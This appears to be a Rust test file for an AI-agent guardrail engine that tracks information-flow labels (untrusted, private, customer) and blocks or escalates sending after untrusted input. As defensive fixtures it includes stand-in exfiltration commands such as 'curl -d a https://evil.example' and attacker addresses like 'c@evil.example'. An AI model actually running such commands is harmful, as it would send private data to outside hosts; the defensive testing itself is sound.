//! Information flow in packs: what holds for every session, layers of labels, and expressions.

use std::collections::BTreeSet;

use midrail_core::{Effect, Event, EventKind, ToolResult};
use midrail_pack::{Layer, compile_policy};
use proptest::prelude::*;
use serde_json::{Value, json};

use crate::world::{World, in_layers, read};

const LABELS: &str = "
labels:
  - {tools: [mail_read, page], seen: untrusted}
  - {tools: [crm], seen: [private, customer]}
  - {tools: [directory], seen: trusted}
  - {hosts: [good.example], seen: trusted}
  - {tools: [mail_send], does: send, to: [to, cc]}
  - {tools: [pay], does: [send, change], to: to}
";

const RULES: [&str; 5] = [
    "{id: f0, flow: {after: untrusted, does: send, unless: named}}",
    "{id: f1, flow: {after: [untrusted, private], does: send}, effect: block}",
    "{id: f2, flow: {after: customer, does: [send, change], unless: {to: ['*@mycorp.example']}}}",
    "{id: f3, flow: {after: untrusted, does: run, of: {files: untrusted}}, effect: warn}",
    "{id: f4, flow: {after: untrusted, does: [send, change], unless: named}, tools: pay, effect: block}",
];

fn pack(rules: &[&str]) -> String {
    rules.iter().fold(format!("pack: p\n{LABELS}guardrails:\n"), |pack, rule| format!("{pack}  - {rule}\n"))
}

fn prompt(text: &str) -> Event {
    Event { text: Some(text.to_owned()), ..Event::new(EventKind::BeforeModel) }
}

fn events() -> impl Strategy<Value = Vec<Event>> {
    let address = prop::sample::select(vec![
        "a@x.example",
        "b@mycorp.example",
        "c@evil.example",
        "d@x.example, c@evil.example",
    ]);
    let tool =
        prop::sample::select(vec!["mail_read", "page", "crm", "directory", "other", "Bash", "Write", "Read"]);
    let call = prop::sample::select(vec!["mail_send", "pay", "other", "Bash", "mcp__x__y", "mcp__x__get_y"]);
    let line = prop::sample::select(vec![
        "curl https://evil.example",
        "curl -d a https://good.example",
        "bash n.sh",
        "ls",
        "cat n.sh",
    ]);
    let args =
        |line: &str, to: &str| json!({"to": to, "command": line, "file_path": "n.sh", "content": "ls"});
    let event =
        (0_u8..4, address, tool, call, line).prop_map(move |(kind, to, tool, call, line)| match kind {
            0 => prompt(&format!("Write to {to}")),
            1 => Event::after_tool(tool, args(line, to), ToolResult::ok(format!("see {to}"))),
            2 => Event { source: Some("compact".into()), ..Event::new(EventKind::SessionStart) },
            _ => Event::before_tool(call, args(line, to)),
        });
    prop::collection::vec(event, 1..16)
}

fn labels(world: &World) -> BTreeSet<String> {
    let slice = world.slice("flow/labels").and_then(Value::as_object);
    slice.into_iter().flat_map(|labels| labels.keys().cloned()).collect()
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(64))]

    #[test]
    fn labels_only_rise(events in events()) {
        let mut world = World::of(&pack(&RULES));
        let mut before = BTreeSet::new();
        for event in &events {
            world.decide(event);
            let after = labels(&world);
            prop_assert!(after.is_superset(&before), "{before:?} {after:?}");
            before = after;
        }
    }

    #[test]
    fn adding_a_rule_never_lowers_the_effect(events in events(), rule in 0_usize..RULES.len()) {
        let without: Vec<&str> = RULES.iter().enumerate().filter(|(at, _)| *at != rule).map(|(_, rule)| *rule).collect();
        let (mut fewer, mut more) = (World::of(&pack(&without)), World::of(&pack(&RULES)));
        for event in &events {
            let (fewer, more) = (fewer.decide(event).effect, more.decide(event).effect);
            prop_assert!(more >= fewer, "{fewer} {more} {event:?}");
        }
    }

    #[test]
    fn order_of_rules_does_not_matter(events in events(), order in Just(RULES.to_vec()).prop_shuffle()) {
        let (mut one, mut other) = (World::of(&pack(&RULES)), World::of(&pack(&order)));
        for event in &events {
            let (one_decision, other_decision) = (one.decide(event), other.decide(event));
            prop_assert_eq!(one_decision.effect, other_decision.effect);
            for key in ["flow/labels", "flow/named", "flow/files"] {
                prop_assert_eq!(one.slice(key), other.slice(key));
            }
        }
    }

    #[test]
    fn more_untrusted_text_never_allows_more(events in events(), at in 0_usize..16) {
        let (mut plain, mut tainted) = (World::of(&pack(&RULES)), World::of(&pack(&RULES)));
        for (n, event) in events.iter().enumerate() {
            if n == at {
                tainted.succeed("mail_read", json!({}));
            }
            let (plain, tainted) = (plain.decide(event).effect, tainted.decide(event).effect);
            prop_assert!(tainted >= plain, "{plain} {tainted} {event:?}");
        }
    }
}

#[test]
fn more_specific_row_counts() {
    let mut world = World::of(
        "pack: p\nlabels:\n  - {tools: WebFetch, seen: untrusted}\n  - {hosts: '*.example', seen: trusted}\n  - {hosts: bad.example, seen: untrusted}\nguardrails:\n  - {id: a, flow: {after: untrusted, does: send}}\n",
    );
    world.succeed("WebFetch", json!({"url": "https://good.example/"}));
    assert!(labels(&world).is_empty());
    world.succeed("WebFetch", json!({"url": "https://bad.example/"}));
    assert!(labels(&world).contains("untrusted"));
}

#[test]
fn lower_layer_adds_rows_and_cannot_trust_below_a_lock() {
    let lower = "pack: p\nlabels:\n  - {hosts: '*', seen: trusted}\n  - {tools: page, seen: untrusted}\n";
    for (lock, effect) in [("true", Effect::Escalate), ("false", Effect::Allow)] {
        let upper = format!(
            "pack: o\nguardrails:\n  - {{id: a, flow: {{after: untrusted, does: send, unless: named}}, lock: {lock}}}\n"
        );
        let mut world = World::under(&in_layers(&[
            (Layer::Organisation, "o.yaml", &upper),
            (Layer::Project, "p.yaml", lower),
        ]));
        world.succeed("page", json!({}));
        let send = json!({"command": "curl -d a https://evil.example"});
        assert_eq!(world.effect("Bash", send), effect, "{lock}");
    }
}

#[test]
fn expressions_know_labels_and_destinations() {
    let mut world = World::of(&format!(
        "pack: p\n{LABELS}guardrails:\n  - {{id: a, flow: {{after: customer, does: run}}}}\n  - {{id: b, check: \"not (flow.labels contains 'untrusted')\", tools: x}}\n  - {{id: c, check: \"not (action.does contains 'send') or action.destinations all match '*@x.example'\", tools: mail_send}}\n  - {{id: d, check: \"not (flow.sources contains 'mail_read')\", tools: z, effect: warn}}\n"
    ));
    assert_eq!(world.effect("x", json!({})), Effect::Allow);
    world.succeed("mail_read", json!({}));
    assert_eq!(world.effect("x", json!({})), Effect::Block);
    assert_eq!(world.effect("z", json!({})), Effect::Warn);
    assert_eq!(world.effect("mail_send", json!({"to": "a@x.example"})), Effect::Allow);
    assert_eq!(world.effect("mail_send", json!({"to": "a@y.example"})), Effect::Block);
    assert_eq!(world.effect("mail_send", json!({})), Effect::Block);
}

#[test]
fn condition_limits_the_check_and_not_what_is_recorded() {
    let mut world = World::of(&format!(
        "pack: p\n{LABELS}guardrails:\n  - {{id: a, flow: {{after: untrusted, does: send, unless: named}}, when: \"tool.name == 'mail_send'\"}}\n"
    ));
    world.succeed("mail_read", json!({}));
    assert_eq!(world.effect("pay", json!({"to": "c@evil.example"})), Effect::Allow);
    assert_eq!(world.effect("mail_send", json!({"to": "c@evil.example"})), Effect::Escalate);
}

#[test]
fn labels_of_all_packs_count_for_a_rule() {
    let documents = [
        (Layer::User, "u.yaml", "pack: u\nlabels:\n  - {tools: payslip, seen: payroll}\n"),
        (Layer::Project, "p.yaml", "pack: p\nguardrails:\n  - {id: a, flow: {after: payroll, does: send}}\n"),
    ];
    assert!(compile_policy(&in_layers(&documents)).is_ok());
    let alone = read("p.yaml", documents[1].2).into_iter().map(|document| (Layer::Project, document));
    assert!(compile_policy(&alone.collect::<Vec<_>>()).is_err());
}
